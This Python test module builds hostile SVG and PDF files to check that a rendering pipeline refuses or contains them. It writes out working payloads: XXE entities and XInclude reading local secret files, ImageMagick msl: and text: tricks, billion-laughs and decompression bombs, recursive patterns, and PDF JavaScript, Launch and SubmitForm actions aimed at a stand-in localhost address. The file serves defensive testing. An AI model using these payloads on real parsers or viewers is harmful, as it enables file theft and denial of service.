"""SVG and PDF that reference other files, expand without limit or contain cycles."""

import base64
import gzip
import zlib
from pathlib import Path

from tests.hostile.case import Expected, hostile_file, hostile_files
from tests.hostile.images import MIB, png, zeros

REFUSED, FAILS, CONTAINED, RENDERS = Expected.REFUSED, Expected.DAMAGED, Expected.CONTAINED, Expected.RENDERS

LINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
NET = "http://127.0.0.1:9"


def svg(body: str, head: str = "", attributes: str = 'width="64" height="64"') -> bytes:
    """Return an SVG with the given body."""
    return f'{head}<svg xmlns="http://www.w3.org/2000/svg" {LINK} {attributes}>{body}</svg>'.encode()


def laughs(levels: int) -> str:
    """Return entities, each ten times the previous one."""
    lines = [f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, levels)]
    return f'<!DOCTYPE svg [<!ENTITY l0 "lol">{"".join(lines)}]>'


def uses(levels: int) -> str:
    """Return groups, each using the previous one ten times."""
    ten = [f'<use xlink:href="#g{level}"/>' * 10 for level in range(levels)]
    groups = [f'<g id="g{level}">{ten[level - 1]}</g>' for level in range(1, levels)]
    return (
        f'<defs><g id="g0"><rect width="9" height="9"/></g>{"".join(groups)}</defs><use xlink:href="#g{levels - 1}"/>'
    )


def embedded(content: bytes, kind: str) -> bytes:
    """Return an SVG that embeds another file."""
    return svg(f'<image width="64" height="64" xlink:href="data:{kind};base64,{base64.b64encode(content).decode()}"/>')


hostile_files(
    "svg",
    FAILS,
    {
        "image_of_a_file": lambda out: svg(f'<image width="9" height="9" href="{out}/secret.png"/>'),
        "image_by_url": lambda out: svg(f'<image width="9" height="9" xlink:href="file://{out}/secret.png"/>'),
        "image_beside": lambda _: svg('<image width="9" height="9" xlink:href="../outside/secret.png"/>'),
        "image_on_the_net": lambda _: svg(f'<image width="9" height="9" xlink:href="{NET}/secret.png"/>'),
        "image_spelt_by_numbers": lambda out: svg(f'<image xlink:href="&#x66;ile&#58;//{out}/secret.png"/>'),
        "image_through_magick": lambda out: svg(f'<image width="9" height="9" xlink:href="text:{out}/secret.txt"/>'),
        "image_through_msl": lambda out: svg(f'<image width="9" height="9" xlink:href="msl:{out}/secret.txt"/>'),
        "use_of_a_file": lambda out: svg(f'<use xlink:href="{out}/secret.svg#a"/>'),
        "filter_image": lambda out: svg(f'<filter id="f"><feImage href="{out}/secret.png"/></filter>'),
        "text_included": lambda out: svg(
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{out}/secret.txt"/>'
        ),
        "script_elsewhere": lambda _: svg(f'<script href="{NET}/x.js"/>'),
        "not_closed": lambda _: svg("<g>").removesuffix(b"</svg>"),
        "closed_by_another": lambda _: svg("<g></h>"),
    },
)
hostile_files(
    "svg",
    REFUSED,
    {
        "outside_entity": lambda out: svg(
            "<text>&x;</text>", f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{out}/secret.txt">]>'
        ),
        "outside_parameter_entity": lambda out: svg(
            "", f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "file://{out}/secret.txt"> %x;]>'
        ),
        "outside_entity_in_utf16": lambda out: (
            svg("<text>&x;</text>", f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{out}/secret.txt">]>')
            .decode()
            .encode("utf-16")
        ),
        "billion_laughs": lambda _: svg("<text>&l9;</text>", laughs(10)),
        "hidden_in_seven_bits": lambda _: svg("", '<?xml version="1.0" encoding="utf-7"?>'),
        "encoding_unknown": lambda _: svg("", '<?xml version="1.0" encoding="no-such-thing"?>'),
        "encoding_of_many_bytes": lambda _: svg("", '<?xml version="1.0" encoding="shift_jis"?>'),
        "encoding_that_is_a_codec": lambda _: svg("", '<?xml version="1.0" encoding="zlib_codec"?>'),
        "width_1e400": lambda _: svg("", attributes='width="1e400" height="1e400"'),
        "width_1e308_inches": lambda _: svg("", attributes='width="1e308in" height="1"'),
        "width_1e300": lambda _: svg("", attributes='width="1e300" height="1e300"'),
        "not_svg": lambda _: b"<html><script>alert(1)</script></html>",
        "root_never_comes": lambda _: b"<!--" + b"x" * MIB + b"-->" + svg(""),
        "packed": lambda _: gzip.compress(svg(""), mtime=0),
        "packed_bomb": lambda _: b"\x1f\x8b\x08\x00" + bytes(6) + zeros(1024)[2:],
    },
)
hostile_files(
    "svg",
    CONTAINED,
    {
        "width_of_a_thousand_digits": lambda _: svg("", attributes=f'width="{"9" * 1000}" height="64"'),
        "width_of_many_digits": lambda _: svg("", attributes=f'width="{"1" * 100_000}x" height="64"'),
        "width_of_many_blanks": lambda _: svg("", attributes=f'width="1{" " * 100_000}!" height="64"'),
        "sides_far_apart": lambda _: svg("", attributes='width="1e300" viewBox="0 0 1e-300 1e300"'),
        "box_of_nan": lambda _: svg("<rect/>", attributes='viewBox="nan nan nan nan"'),
        "box_of_1e308": lambda _: svg("<rect/>", attributes='viewBox="-1e308 -1e308 1e308 1e308"'),
        "attribute_without_end": lambda _: svg("", attributes=f'class="{"x" * 200_000}"'),
        "outside_type": lambda out: svg("<rect/>", f'<!DOCTYPE svg SYSTEM "file://{out}/secret.dtd">'),
        "outside_type_on_the_net": lambda _: svg("<rect/>", f'<!DOCTYPE svg PUBLIC "x" "{NET}/svg.dtd">'),
        "style_imported": lambda out: svg(f'<style>@import url("file://{out}/secret.css");</style><rect/>'),
        "style_from_the_net": lambda _: svg(f'<style>@import "{NET}/x.css"; rect{{fill:url({NET}/y)}}</style><rect/>'),
        "style_sheet_named": lambda out: svg("<rect/>", f'<?xml-stylesheet href="file://{out}/secret.css"?>'),
        "style_of_urls": lambda out: svg(
            f'<rect width="9" height="9" style="fill:url(file://{out}/secret.svg#a);filter:url({out}/secret.svg#b);'
            f'mask:url({NET}/m#a);cursor:url({NET}/c);clip-path:url({out}/secret.svg#c)"/>'
        ),
        "font_elsewhere": lambda out: svg(
            f"<style>@font-face{{font-family:x;src:url(file://{out}/secret.ttf)}}</style><text font-family='x'>a</text>"
        ),
        "base_elsewhere": lambda out: svg('<use xlink:href="#a"/>', attributes=f'xml:base="file://{out}/secret.svg"'),
        "link_elsewhere": lambda _: svg(f'<a xlink:href="{NET}/x"><rect width="9" height="9"/></a>'),
        "script": lambda out: svg(f"<script>fetch('file://{out}/secret.txt')</script>", attributes='onload="alert(1)"'),
        "foreign_object": lambda out: svg(
            f'<foreignObject width="64" height="64"><body xmlns="http://www.w3.org/1999/xhtml">'
            f'<iframe xmlns="http://www.w3.org/1999/xhtml" data-x="file://{out}/secret.txt"/></body></foreignObject>'
        ),
        "drawing_inside_names_a_file": lambda out: embedded(
            svg(f'<image width="64" height="64" xlink:href="file://{out}/secret.png"/>'), "image/svg+xml"
        ),
        "drawing_inside_laughs": lambda _: embedded(svg("<text>&l9;</text>", laughs(10)), "image/svg+xml"),
        "bomb_inside": lambda _: embedded(png(12_000, 12_000, zeros(413)), "image/png"),
        "groups_100000_deep": lambda _: svg("<g>" * 100_000 + "</g>" * 100_000),
        "groups_900_deep": lambda _: svg('<g opacity="0.9">' * 900 + '<rect width="64" height="64"/>' + "</g>" * 900),
        "use_of_itself": lambda _: svg('<g id="a"><use xlink:href="#a"/></g>'),
        "uses_of_each_other": lambda _: svg(
            '<g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/></g><use xlink:href="#a"/>'
        ),
        "billion_uses": lambda _: svg(uses(10)),
        "pattern_of_itself": lambda _: svg(
            '<pattern id="p" width="9" height="9"><rect width="9" height="9" fill="url(#p)"/></pattern>'
            '<rect width="64" height="64" fill="url(#p)"/>'
        ),
        "pattern_of_a_billion_tiles": lambda _: svg(
            '<pattern id="p" width="1e-9" height="1e-9" patternUnits="userSpaceOnUse"><rect width="1" height="1"/>'
            '</pattern><rect width="64" height="64" fill="url(#p)"/>'
        ),
        "mask_of_itself": lambda _: svg(
            '<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask><rect width="9" height="9" mask="url(#m)"/>'
        ),
        "blur_without_end": lambda _: svg(
            '<filter id="f" x="-1e9" y="-1e9" width="1e9" height="1e9"><feGaussianBlur stdDeviation="1e9"/></filter>'
            '<rect width="9" height="9" filter="url(#f)"/>'
        ),
        "turbulence_without_end": lambda _: svg(
            '<filter id="f"><feTurbulence baseFrequency="1" numOctaves="2000000000"/></filter>'
            '<rect width="64" height="64" filter="url(#f)"/>'
        ),
        "morphology_without_end": lambda _: svg(
            '<filter id="f"><feMorphology operator="dilate" radius="1e6"/></filter>'
            '<rect width="64" height="64" filter="url(#f)"/>'
        ),
        "dashes_without_end": lambda _: svg(
            '<path d="M0 0 H1e9" stroke="#000" stroke-dasharray="1e-9" stroke-width="1"/>'
        ),
        "path_beyond_numbers": lambda _: svg('<path d="M-1e308 nan L1e308 1e999 A1e308 1 0 0 1 5 5z" stroke="#000"/>'),
        "path_of_a_million": lambda _: svg(f'<path d="M0 0{" L9 9 0 9" * 250_000}" stroke="#000" fill="none"/>'),
        "text_of_size_1e9": lambda _: svg('<text font-size="1e9" y="64">W</text>'),
        "text_of_a_megabyte": lambda _: svg(f'<text font-size="9">{"W " * 500_000}</text>'),
    },
)


def pdf(objects: dict[int, str], streams: dict[int, tuple[str, bytes]] | None = None, trailer: str = "") -> bytes:
    """Return a PDF with these objects and streams; object 1 is its root."""
    bodies = {number: text.encode() for number, text in objects.items()}
    for number, (dictionary, content) in (streams or {}).items():
        head = f"<< /Length {len(content)} {dictionary} >>\nstream\n".encode()
        bodies[number] = head + content + b"\nendstream"
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in sorted(bodies.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, size = len(out), max(bodies) + 1
    lines = [b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n" for n in range(size)]
    end = f"trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n"
    return bytes(out) + b"xref\n0 %d\n" % size + b"".join(lines) + end.encode()


def page(
    content: bytes = b"0 0 m 99 99 l S",
    *,
    box: str = "[0 0 99 99]",
    root: str = "",
    on_page: str = "",
    filters: str = "",
    resources: str = "",
    objects: dict[int, str] | None = None,
    streams: dict[int, tuple[str, bytes]] | None = None,
) -> bytes:
    """Return a PDF of one page with this content; further objects start at 5."""
    basic = {
        1: f"<< /Type /Catalog /Pages 2 0 R {root} >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: f"<< /Type /Page /Parent 2 0 R /MediaBox {box} /Contents 4 0 R /Resources << {resources} >> {on_page} >>",
    }
    return pdf(basic | (objects or {}), {4: (filters, content)} | (streams or {}))


FORM = "/Type /XObject /Subtype /Form /BBox [0 0 99 99]"
TILING = "/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1]"
DOT = "/Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray"
FLATE = "/Filter /FlateDecode"


def forms(levels: int) -> dict[int, tuple[str, bytes]]:
    """Return forms, each drawing the previous one ten times."""
    made = {5: (FORM, b"0 0 m 9 9 l S")}
    for level in range(1, levels):
        resources = f"/Resources << /XObject << /F {4 + level} 0 R >> >>"
        made[5 + level] = (f"{FORM} {resources}", b"/F Do " * 10)
    return made


hostile_files(
    "pdf",
    CONTAINED,
    {
        "script_at_opening": lambda out: page(
            root=f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{NET}'\\); this.submitForm\\('{out}'\\)) >>"
        ),
        "launches_a_program": lambda out: page(
            root=f"/OpenAction << /S /Launch /F ({out}/secret.sh) /Win << /F (x) >> >>"
        ),
        "action_of_the_page": lambda out: page(
            on_page=f"/AA << /O << /S /GoToR /F ({out}/secret.pdf) /D [0 /Fit] >> >>"
        ),
        "form_sent_to_the_net": lambda _: page(root=f"/OpenAction << /S /SubmitForm /F << /FS /URL /F ({NET}) >> >>"),
        "content_elsewhere": lambda out: page(filters=f"/F ({out}/secret.txt) /FFilter null"),
        "image_elsewhere": lambda out: page(
            b"99 0 0 99 0 0 cm /I Do",
            resources="/XObject << /I 5 0 R >>",
            streams={
                5: (
                    f"{DOT} /F << /FS /URL /F ({NET}/x.png) /UF ({out}/secret.png) >>",
                    b"",
                )
            },
        ),
        "forms_of_another_file": lambda out: page(
            b"/R Do",
            resources="/XObject << /R 5 0 R >>",
            streams={5: (f"{FORM} /Ref << /F ({out}/secret.pdf) /Page 0 >>", b"")},
        ),
        "sheet_without_end": lambda _: page(box="[0 0 1e300 1e300]"),
        "sheet_of_two_billion": lambda _: page(box="[0 0 2147483647 2147483647]"),
        "sheet_of_nan": lambda _: page(box="[nan nan nan nan]"),
        "sheet_of_infinity": lambda _: page(box="[0 0 inf -inf]"),
        "sheet_of_nothing": lambda _: page(box="[0 0 0 0]"),
        "sheet_inside_out": lambda _: page(box="[99 99 -99999 -99999]"),
        "sheet_as_thin_as_a_hair": lambda _: page(box="[0 0 1e9 1e-9]"),
        "sheet_of_units": lambda _: page(on_page="/UserUnit 1e30"),
        "form_draws_itself": lambda _: page(
            b"/F Do",
            resources="/XObject << /F 5 0 R >>",
            streams={5: (f"{FORM} /Resources << /XObject << /F 5 0 R >> >>", b"/F Do")},
        ),
        "forms_draw_each_other": lambda _: page(
            b"/F Do",
            resources="/XObject << /F 5 0 R >>",
            streams={
                5: (f"{FORM} /Resources << /XObject << /F 6 0 R >> >>", b"/F Do"),
                6: (f"{FORM} /Resources << /XObject << /F 5 0 R >> >>", b"/F Do"),
            },
        ),
        "letter_draws_itself": lambda _: page(
            b"BT /T 9 Tf (a) Tj ET",
            resources="/Font << /T 5 0 R >>",
            objects={
                5: "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 "
                "/LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> "
                "/Resources << /Font << /T 5 0 R >> >> >>"
            },
            streams={6: ("", b"9 0 d0 BT /T 9 Tf (aaaaaaaaaa) Tj ET")},
        ),
        "pattern_of_itself": lambda _: page(
            b"/Pattern cs /P scn 0 0 99 99 re f",
            resources="/Pattern << /P 5 0 R >>",
            streams={
                5: (
                    f"{TILING} /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 5 0 R >> >>",
                    b"/Pattern cs /P scn 0 0 9 9 re f",
                )
            },
        ),
        "bomb_in_its_content": lambda _: page(zeros(1024), filters=FLATE),
        "bomb_packed_twice": lambda _: page(zlib.compress(zeros(1024)), filters="/Filter [/FlateDecode /FlateDecode]"),
        "bomb_in_an_image": lambda _: page(
            b"99 0 0 99 0 0 cm /I Do",
            resources="/XObject << /I 5 0 R >>",
            streams={
                5: (
                    f"/Subtype /Image /Width 40000 /Height 40000 /BitsPerComponent 8 /ColorSpace /DeviceRGB {FLATE}",
                    zeros(512),
                )
            },
        ),
        "filters_by_the_thousand": lambda _: page(zeros(1), filters=f"/Filter [{'/FlateDecode ' * 9999}]"),
        "state_saved_a_million_times": lambda _: page(b"q " * 1_000_000),
        "brackets_a_million_deep": lambda _: page(b"[" * 1_000_000),
        "objects_nested_deep": lambda _: page(on_page=f"/X {'[' * 50_000}{']' * 50_000}"),
        "dictionaries_nested_deep": lambda _: page(root=f"/OCProperties {'<< /D ' * 20_000}{'>> ' * 20_000}"),
        "layers_that_are_none": lambda _: page(root="/OCProperties << /OCGs [1 null (x) 3 0 R 99 0 R] /D [] >>"),
        "layers_in_a_circle": lambda _: page(
            root="/OCProperties 5 0 R", objects={5: "<< /OCGs [5 0 R 6 0 R] /D 5 0 R >>", 6: "6 0 R"}
        ),
        "layers_without_name": lambda _: page(
            root="/OCProperties << /OCGs [5 0 R] /D << /Order [5 0 R] >> >>",
            objects={5: "<< /Type /OCG /Name 12 >>"},
        ),
        "pages_that_contain_themselves": lambda _: pdf(
            {1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [2 0 R 2 0 R] /Parent 2 0 R /Count 9 >>"}
        ),
        "pages_that_are_not_there": lambda _: pdf(
            {1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [] /Count 999999 >>"}
        ),
        "length_in_a_circle": lambda _: page(filters="/Length 4 0 R"),
        "tables_in_a_circle": lambda _: page().replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9"),
        "table_elsewhere": lambda _: page().replace(b"startxref\n", b"startxref\n99999999"),
        "objects_by_the_billion": lambda _: page().replace(b"/Size 5", b"/Size 2147483647"),
        "opened_by_a_password": lambda _: page().replace(
            b"/Size 5",
            b"/Size 5 /ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <"
            + b"00" * 32
            + b"> /U <"
            + b"00" * 32
            + b"> /P -1 >>",
        ),
        "linear_many_times": lambda _: b"%PDF-1.7\n" + b"/Linearized" * 90_000 + page(),
        "counts_many_times": lambda _: b"%PDF-1.7\n" + b"/Count " * 140_000 + page(),
        "not_a_page_in_sight": lambda _: b"%PDF-1.7\nstartxref\n0\n%%EOF",
    },
)
hostile_files(
    "pdf",
    REFUSED,
    {"no_end": lambda _: page().split(b"startxref")[0], "only_a_head": lambda _: b"%PDF-1.7\n" + bytes(9999)},
)


@hostile_file("pdf", CONTAINED, seconds=8)
def billion_forms(_outside: Path) -> bytes:
    """Each form draws the previous one ten times."""
    return page(b"/F Do", resources="/XObject << /F 14 0 R >>", streams=forms(10))
